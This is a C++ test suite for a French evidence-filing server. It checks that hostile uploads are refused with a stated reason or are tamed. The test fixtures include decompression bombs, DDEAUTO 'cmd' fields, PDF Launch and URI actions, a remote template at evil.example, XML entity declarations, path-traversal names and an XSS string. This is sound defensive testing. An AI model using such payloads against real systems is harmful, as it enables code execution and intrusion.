// Files made to harm who opens them are refused or tamed, by the site and on the command line, and say why; the next
// visitor is served.
#include "tests/http/hostile_files.hpp"

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <sys/resource.h>

#include "model/store/evidence.hpp"
#include "server/picture_check.hpp"
#include "tests/http/command_line.hpp"
#include "tests/http/sample_files.hpp"
#include "tests/http/site.hpp"
#include "tests/unit/pdf/sample_jpeg.hpp"

namespace classeur::server::tests
{

namespace
{

constexpr std::size_t kMebibyte = std::size_t{1} << 20;

struct HostileFile {
  std::string name;
  std::string bytes;
  std::string reason;  // part of what is said
};

std::vector<HostileFile> hostile_files()
{
  std::vector<std::pair<std::string, std::string>> thousand;
  for (int number = 0; number < 1000; ++number) thousand.emplace_back(fmt::format("{}.txt", number), "x");
  std::vector<HostileFile> files;
  files.push_back({"bombe.docx", docx_bomb(65 * kMebibyte), "bombe de décompression"});
  files.push_back({"pousse.docx", docx_bomb(3 * kMebibyte), "bombe de décompression"});
  files.push_back({"carre.png", png_of_size(50'000, 50'000), "démesurée"});
  files.push_back({"long.png", png_of_size(kPictureSideMax + 1, 1), "démesurée"});
  files.push_back({"vide.png", png_of_size(100, 100), "endommagée"});
  files.push_back(
      {"passes.jpg", templates::pdf::progressive_jpeg(20'000, 4'999, 21), "en 21 passes, quand 20 au plus"});
  files.push_back({"mille.jpg", templates::pdf::progressive_jpeg(1'000, 1'000, 2'001), "en 2001 passes, quand 2000"});
  files.push_back({"carre.tif", tiff_of_size(50'000, 50'000), "démesurée"});
  files.push_back({"carre-petit-boutiste.tif", tiff_of_size(50'000, 50'000, ByteOrder::kLittle), "démesurée"});
  files.push_back({"haut.tif", tiff_of_size(1, kPictureSideMax + 1), "démesurée"});
  files.push_back({"points.tif", tiff_of_size(10'001, 10'000), "démesurée"});
  files.push_back({"sans-taille.tif", tiff_of_size(0, 100), "endommagée"});
  files.push_back({"coupe.tif", tiff_of_size(100, 100).substr(0, 20), "endommagée"});
  files.push_back({"tete.tif", std::string("II\x2A\0", 4), "endommagée"});
  files.push_back({"ailleurs.tif", std::string("MM\0\x2A\xFF\xFF\xFF\xFF", 8), "endommagée"});
  files.push_back({"grand.tif", std::string("II\x2B\0\x08\0\0\0\x10\0\0\0\0\0\0\0", 16), "BigTIFF"});
  files.push_back({"arbre.pdf", pdf_with_nested_page_tree(100'000), "niveaux"});
  files.push_back({"mille.eml", mail_with(thousand), "plus de 100 pièces jointes"});
  files.push_back({"poupees.eml", mail_nested(1000), "emboîtées"});
  files.push_back({"piege.eml", mail_with({{"bombe.docx", docx_bomb(65 * kMebibyte)}}), "bombe.docx"});
  const std::string whole = mail_with({{"releve.txt", "Relevé d’octobre, page 1 sur 2"}});
  files.push_back({"coupe.eml", whole.substr(0, whole.size() - 20), "abîmée"});
  files.push_back({"sorti.docx", docx_saying({"a"}, {{"../../evil.xml", "<a/>"}}), "hors de l’archive"});
  files.push_back({"macro.docx", docx_saying({"a"}, {{"word/vbaProject.bin", "x"}}), "macro"});
  files.push_back({"entite.docx",
                   docx_saying({"a"}, {{"word/header1.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}}),
                   "déclaration DOCTYPE"});
  files.push_back(
      {"modele.docx",
       docx_saying({"a"}, {{"word/_rels/settings.xml.rels",
                            "<Relationships><Relationship Type=\"a/attachedTemplate\" TargetMode=\"External\" "
                            "Target=\"https://evil.example/a.dotm\"/></Relationships>"}}),
       "un modèle d’une autre machine"});
  const std::string dde =
      docx_saying({"a"}, {{"word/footer1.xml", "<f><fldSimple instr=\"DDEAUTO cmd &quot;/k calc&quot;\"/></f>"}});
  files.push_back({"champ.docx", dde, "DDEAUTO"});
  files.push_back({"champ.eml", mail_with({{"champ.docx", dde}}), "sa pièce jointe «\u00A0champ.docx\u00A0»"});
  files.push_back(
      {"lance.pdf", pdf_with_catalogue("/OpenAction << /S /Launch /F (calc.exe) >>"), "lance un programme"});
  files.push_back({"joint.pdf",
                   pdf_with_catalogue("/Names << /EmbeddedFiles << /Names [ (a) << /F (a.exe) /EF << >> >> ] >> >>"),
                   "«\u00A0a.exe\u00A0»"});
  files.push_back(
      {"adresse.pdf", pdf_with_catalogue("/OpenAction << /S /URI /URI (https://evil.example/) >>"), "dès l’ouverture"});
  files.push_back({"macros.pdf",
                   pdf_with_catalogue("/Names << /EmbeddedFiles << /Names [ (a) << /F (a.docm) /EF << >> >> ] >> >>"),
                   "«\u00A0a.docm\u00A0»"});
  files.push_back({"insere.docx",
                   docx_saying({"a"}, {{"word/_rels/document.xml.rels",
                                        "<Relationships><Relationship Type=\"a/aFChunk\" "
                                        "Target=\"a.htm\"/></Relationships>"}}),
                   "un texte d’un autre format"});
  files.push_back({"objet.docx", docx_saying({"a"}, {{"word/embeddings/a.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"}}),
                   "un objet OLE"});
  files.push_back({"dedans.docx",
                   docx_saying({"a"}, {{"word/embeddings/a.docx", docx_saying({"a"}, {{"word/vbaProject.bin", "x"}})}}),
                   "word/embeddings/a.docx"});
  files.push_back({"simple.zip", "PK\x03\x04 rien", "archive"});
  files.push_back({"ancien.doc", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", "ancien format"});
  files.push_back({"page.txt", "<script>alert(1)</script>", "malgré son nom"});
  files.push_back({"courriel.eml", "Bonjour, ceci n’en est pas un.", "ce n’est pas un courriel, malgré son nom"});
  return files;
}

class HostileFiles : public ::testing::Test
{
 protected:
  HostileFiles() : browser_(site_) { browser_.sign_in(login_of(model::Role::kQualityReferent)); }

  static std::string field(const std::string& name, const std::string& value)
  {
    return fmt::format("--limit\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n{}\r\n", name, value);
  }
  Answer hand_in(const std::string& file, std::string_view bytes)
  {
    std::string body = field("csrf", browser_.csrf_of("/preuves/nouvelle")) + field("titre", "Essai") +
                       field("genre", "minutes") + field("du", "2019-01-01") + field("au", "2019-01-31") +
                       field("confidentialite", "ordinary") + field("exigence", "3.4");
    body += fmt::format("--limit\r\nContent-Disposition: form-data; name=\"fichier\"; filename=\"{}\"\r\n\r\n", file);
    body.append(bytes).append("\r\n--limit--\r\n");
    return browser_.post("/preuves/nouvelle", body, {{"Content-Type", "multipart/form-data; boundary=limit"}});
  }
  // The one just handed in.
  model::EvidenceRecord record_of(const Answer& answer)
  {
    const std::string address = answer.header("location");
    return model::store::find_evidence(site_.store().read(), address.substr(address.rfind('/') + 1)).value();
  }
  std::int64_t count() { return model::store::count_evidence(site_.store().read()); }
  Browser& browser() { return browser_; }

 private:
  Site site_;
  Browser browser_;
};

long peak_memory_mebibytes()
{
  rusage usage{};
  getrusage(RUSAGE_SELF, &usage);
  return usage.ru_maxrss / 1024;
}

}  // namespace

TEST_F(HostileFiles, AreRefusedByTheSiteWithTheirReason)
{
  const std::int64_t before = count();
  const std::string form = browser().get("/preuves/nouvelle").body;
  for (const HostileFile& file : hostile_files()) {
    EXPECT_EQ(form.find(file.reason), std::string::npos) << file.name << ": the page says so of itself";
    const Answer answer = hand_in(file.name, file.bytes);
    EXPECT_EQ(answer.status, 422) << file.name;
    EXPECT_NE(answer.body.find(file.reason), std::string::npos) << file.name << "\n" << answer.body;
    EXPECT_NE(answer.body.find(file.name), std::string::npos) << file.name;
    EXPECT_EQ(browser().get("/preuves").status, 200) << file.name;
  }
  EXPECT_EQ(count(), before);
  // Of the whole test program, which holds the files too.
  EXPECT_LT(peak_memory_mebibytes(), 700);
  RecordProperty("peak_memory_mebibytes", std::to_string(peak_memory_mebibytes()));
}

// What nests too deep is left out, as libqpdf does; what is only long is kept: the page is shown, its text is read.
TEST_F(HostileFiles, ADeeplyNestedPdfIsTamed)
{
  for (const auto& [name, bytes] : {std::pair{"tableaux.pdf", pdf_with_nested_arrays(100'000)},
                                    std::pair{"chaine.pdf", pdf_with_chained_objects(100'000)}}) {
    const Answer answer = hand_in(name, bytes);
    ASSERT_EQ(answer.status, 303) << name << "\n" << answer.body;
    EXPECT_EQ(record_of(answer).current().files.front().file.pages, 1) << name;
    EXPECT_EQ(browser().get(answer.header("location")).status, 200) << name;
  }
}

TEST_F(HostileFiles, APictureAtTheLimitIsKept)
{
  EXPECT_EQ(hand_in("a.tif", tiff_of_size(kPictureSideMax, 3333)).status, 303);
  EXPECT_EQ(hand_in("b.tif", tiff_of_size(10'000, 10'000, ByteOrder::kLittle)).status, 303);
}

// In colour they have 300 million bytes, and 400 million as they go to a printer.
TEST_F(HostileFiles, AJpegAtTheLimitIsKept)
{
  EXPECT_EQ(hand_in("rvb.jpg", templates::pdf::baseline_jpeg(10'000, 10'000, 3)).status, 303);
  EXPECT_EQ(hand_in("cmjn.jpg", templates::pdf::baseline_jpeg(20'000, 5'000, 4)).status, 303);
  EXPECT_EQ(hand_in("passes.jpg", templates::pdf::progressive_jpeg(1'000, 1'000, 2'000)).status, 303);
}

TEST_F(HostileFiles, NamesAreTamed)
{
  const std::string text = "Notes de réunion";
  const std::string long_name(300, 'a');
  const std::vector<std::pair<std::string, std::string>> names = {
      {"../../etc/passwd.txt", "passwd.txt"},
      {"C:/Bureau/notes.txt", "notes.txt"},
      {"a\u202Etxt.exe.txt", "atxt.exe.txt"},
      {"deux\tmots\u2028ici.txt", "deux mots ici.txt"},
      {".cache.txt", "cache.txt"},
      {"\xFF\xFE.txt", "fichier.txt"},
      {long_name + ".txt", std::string(116, 'a') + ".txt"},
  };
  int number = 0;
  for (const auto& [sent, kept] : names) {
    const Answer answer = hand_in(sent, text + std::to_string(++number));
    ASSERT_EQ(answer.status, 303) << sent << "\n" << answer.body;
    const model::EvidenceFile file = record_of(answer).current().files.front();
    EXPECT_EQ(file.name, kept);
    const Answer sent_back = browser().get(answer.header("location") + "/fichiers/" + file.file.digest.hex());
    EXPECT_EQ(sent_back.header("content-disposition").find_first_of("\r\n/\\"), std::string::npos) << sent;
  }
}

TEST_F(HostileFiles, APictureThatLiesAboutItsNameGetsTheNameOfWhatItIs)
{
  const std::string jpeg = library_file("evidence/files/PR-2019-022-entree.jpg");
  const model::EvidenceFile file = record_of(hand_in("entree.png", jpeg)).current().files.front();
  EXPECT_EQ(file.name, "entree.png.jpg");
  EXPECT_EQ(file.file.media_type, "image/jpeg");
}

TEST_F(HostileFiles, EveryAcceptedTypeIsKeptAsWhatItIs)
{
  const std::vector<std::tuple<std::string, std::string, std::string>> files = {
      {"a.odt", odt_saying({"Texte"}), "application/vnd.oasis.opendocument.text"},
      {"a.ods", ods_saying({"Texte"}), "application/vnd.oasis.opendocument.spreadsheet"},
      {"a.docx", docx_saying({"Texte"}), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
      {"a.xlsx", xlsx_saying({"Texte"}), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
      {"a.tif", tiff_of_size(100, 100), "image/tiff"},
      {"a.csv", "a;b\n1;2\n", "text/csv"},
      {"a.eml", mail_with({}), "message/rfc822"},
      {"a.txt", "Texte", "text/plain"},
      {"sans-nom", mail_with({}) + "\r\n", "message/rfc822"},
      {"a.pdf", pdf_saying({"Texte"}), "application/pdf"},
  };
  for (const auto& [name, bytes, type] : files) {
    const Answer answer = hand_in(name, bytes);
    ASSERT_EQ(answer.status, 303) << name << "\n" << answer.body;
    EXPECT_EQ(record_of(answer).current().files.front().file.media_type, type) << name;
    EXPECT_EQ(browser().get(answer.header("location")).status, 200) << name;
  }
}

TEST_F(HostileFiles, AttachmentsOfAMailBecomeFilesOfTheRevision)
{
  const std::string mail = mail_with({{"octobre.txt", "Émargements d’octobre"},
                                      {"=?UTF-8?B?w6ltYXJnZW1lbnQudHh0?=", "Émargements de novembre"},
                                      {"octobre.txt", "D’autres émargements"},
                                      {"copie.txt", "Émargements d’octobre"},
                                      {"rendez-vous.ics", "BEGIN:VCALENDAR"}});
  const model::EvidenceRecord record = record_of(hand_in("pieces.eml", mail));
  std::vector<std::string> names;
  for (const model::EvidenceFile& file : record.current().files) names.push_back(file.name);
  EXPECT_EQ(names, (std::vector<std::string>{"pieces.eml", "octobre.txt", "émargement.txt", "octobre (2).txt"}))
      << "equal bytes once, what is no evidence in the message only";
}

class HostileManifest : public CommandLine
{
};

TEST_F(HostileManifest, IsRefusedWithTheFileAndTheLine)
{
  make_example();
  for (const HostileFile& file : hostile_files()) expect_evidence_refused(file.name, file.bytes);
}

}  // namespace classeur::server::tests
